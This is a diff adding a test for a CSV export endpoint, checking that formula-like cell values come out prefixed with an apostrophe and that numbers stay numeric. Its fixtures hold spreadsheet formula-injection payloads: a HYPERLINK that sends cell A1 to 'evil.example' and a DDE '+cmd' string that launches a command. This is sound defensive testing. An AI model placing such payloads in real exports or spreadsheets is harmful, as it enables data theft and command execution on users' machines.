@@ -102,3 +102,23 @@ def test_it_documents_the_schema(client):
 
 def test_it_answers_404_for_unknown_formats(client):
     assert client.get("/exports/deals.xml").status_code == 404
+
+
+def test_it_exports_formula_looking_text_as_inert_text_and_numbers_as_numbers(client, deals):
+    a, _b = deals
+    a.title = '=HYPERLINK(CONCAT("https://evil.example/?",A1),"Open")'
+    a.save()
+    ClauseFactory(
+        deal=a, kind=Clause.Kind.OTHER, subject="+cmd|' /C calc'!A0", summary="-2+3", quote="@SUM(A1)"
+    )
+    ClauseFactory(deal=a, kind=Clause.Kind.OTHER, subject="\tTabbed", summary="\rReturned", quote="plain")
+    deals_rows = list(csv.DictReader(io.StringIO(_body(client.get("/exports/deals.csv")))))
+    row = next(r for r in deals_rows if r["slug"] == "oa-amd")
+    assert row["title"] == "'" + a.title
+    assert row["value_max"] == "100000000000"  # a number, not text
+    clause_rows = list(csv.DictReader(io.StringIO(_body(client.get("/exports/clauses.csv")))))
+    cells = [value for r in clause_rows for value in r.values()]
+    assert "'+cmd|' /C calc'!A0" in cells and "'-2+3" in cells and "'@SUM(A1)" in cells
+    assert "'\tTabbed" in cells and "'\rReturned" in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert {r["amount"] for r in clause_rows} >= {"6", "160000000"}
